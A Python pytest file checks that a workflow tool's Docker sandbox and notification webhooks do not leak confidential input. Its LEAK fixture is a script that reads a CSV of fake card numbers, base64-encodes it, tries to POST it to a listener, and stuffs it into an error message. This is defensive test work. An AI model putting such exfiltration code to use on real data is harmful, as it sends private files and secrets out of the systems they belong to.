"""RELIABILITY.md item 49: data never leaves a no-network sandbox through a notification.

On docker, a phase reads its confidential input and fails with it, base64, in its error (and
tries the host's listener itself, from a sandbox without a network). A flow that names the
listener as its webhook is refused by `praxis run` and the listener receives nothing; a
target of the person's profile receives the fixed body, which holds neither the input nor
its base64; with the target's ``include_error`` the error comes bounded.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from praxis.flows.engine import notify

from ..flows.test_notify import SECRET, Hook
from ._flows import docker_sandbox, praxis, write_flow

pytestmark = pytest.mark.docker

CONFIDENTIAL = "customer,card\n" + "".join(f"c{n},4111-1111-1111-{n:04d}\n" for n in range(200))

LEAK = """
import base64, urllib.request
data = open("data/in.csv", "rb").read()
smuggled = base64.b64encode(data).decode()
try:  # straight to the host's listener: the sandbox has no network
    urllib.request.urlopen(%(url)r, data=smuggled.encode(), timeout=3)
except Exception:
    pass
raise RuntimeError("%(secret)s " + smuggled)
"""


@pytest.fixture
def hook() -> Iterator[Hook]:
    h = Hook()
    h.thread.start()
    try:
        yield h
    finally:
        h.server.shutdown()
        h.server.server_close()


def leaky(tmp_path: Path, image: str, notify_yaml: str, url: str) -> Path:
    yaml_text = f"""
        flow: leaky
        {docker_sandbox(image)}
        notify: {notify_yaml}
        phases:
          - id: leak
            kind: script
            script: leak.py
            inputs: {{working: [data/in.csv]}}
            outputs: [x.txt]
    """
    files = {"leak.py": LEAK % {"url": url, "secret": SECRET}, "data/in.csv": CONFIDENTIAL}
    return write_flow(tmp_path / "leaky", yaml_text, files)


def profile(tmp_path: Path, hook: Hook, **extra: object) -> dict[str, str]:
    entry = {"webhook": hook.url, **extra}
    path = tmp_path / "profile.yaml"
    path.write_text(f"notify: {{team: {json.dumps(entry)}}}\n")
    return {"PRAXIS_PROFILE": str(path), "PRAXIS_NOTIFY_COMMAND": ""}


def test_item49_a_webhook_named_by_the_flow_receives_nothing(
    docker_image: str,
    tmp_path: Path,
    hook: Hook,
) -> None:
    flow = leaky(tmp_path, docker_image, "{webhook: '" + hook.url + "'}", hook.url)
    done = praxis("run", str(flow), env=profile(tmp_path, hook))
    assert done.returncode == 2, done.stderr
    assert "notify.webhook: a flow does not choose where this machine connects" in done.stderr
    assert "and write `notify: {to: team}`" in done.stderr
    assert not (flow / "runs").exists() or not any((flow / "runs").iterdir())
    assert hook.raw == []


def test_item49_a_profile_target_receives_no_phase_text(
    docker_image: str,
    tmp_path: Path,
    hook: Hook,
) -> None:
    flow = leaky(tmp_path, docker_image, "{to: team}", hook.url)
    done = praxis("run", str(flow), env=profile(tmp_path, hook))
    assert done.returncode == 1, done.stderr
    smuggled = base64.b64encode(CONFIDENTIAL.encode())
    run_id = next((flow / "runs").iterdir()).name
    state = json.loads((flow / "runs" / run_id / "run.json").read_text())
    assert smuggled.decode()[:100] in str(state["error"])  # the phase did fail with it
    ((method, path, body),) = hook.seen  # one POST, from the host; nothing from the phase
    assert (method, path) == ("POST", "/hook")
    assert body == {
        "flow": "leaky",
        "run": run_id,
        "event": "failed",
        "status": "failed",
        "phase": "leak",
        "url": None,
    }
    (raw,) = hook.raw
    for text in (smuggled[:40], b"4111-1111", SECRET.encode(), str(tmp_path).encode()):
        assert text not in raw, text


def test_item49_include_error_sends_the_error_bounded(
    docker_image: str,
    tmp_path: Path,
    hook: Hook,
) -> None:
    flow = leaky(tmp_path, docker_image, "{to: team, when: [failed]}", hook.url)
    done = praxis("run", str(flow), env=profile(tmp_path, hook, include_error=True))
    assert done.returncode == 1, done.stderr
    ((_, _, body),) = hook.seen
    run_id = next((flow / "runs").iterdir()).name
    error = json.loads((flow / "runs" / run_id / "run.json").read_text())["error"]
    assert len(error) > 4000 and len(body["error"]) == notify.ERROR_CHARS
    assert body["error"] == notify.bounded(error)
